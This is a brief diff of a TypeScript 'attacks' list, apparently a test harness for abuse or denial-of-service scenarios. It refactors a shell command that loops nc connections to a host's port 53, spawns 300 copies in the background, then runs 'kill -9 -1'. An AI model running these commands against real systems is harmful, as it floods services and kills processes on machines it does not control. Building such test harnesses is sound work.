@@ -141,7 +141,8 @@ export const attacks: Attack[] = [
     async (target, words) => {
       const [bad, good] = [await asker(target), await asker(target)];
       // They come back as often as they are put off, for as long as the others are asked.
-      const loop = `while :; do (${words} sleep 30) | nc ${bad.dns} 53 >/dev/null 2>&1; sleep 1; done`;
+      const one = `(${words} sleep 30) | nc ${bad.dns} 53 >/dev/null 2>&1`;
+      const loop = `while :; do ${one}; sleep 1; done`;
       const flood = bad
         .exec(`i=0; while [ $i -lt 300 ]; do ${loop} & i=$((i+1)); done; sleep 25; kill -9 -1`)
         .catch(() => undefined);
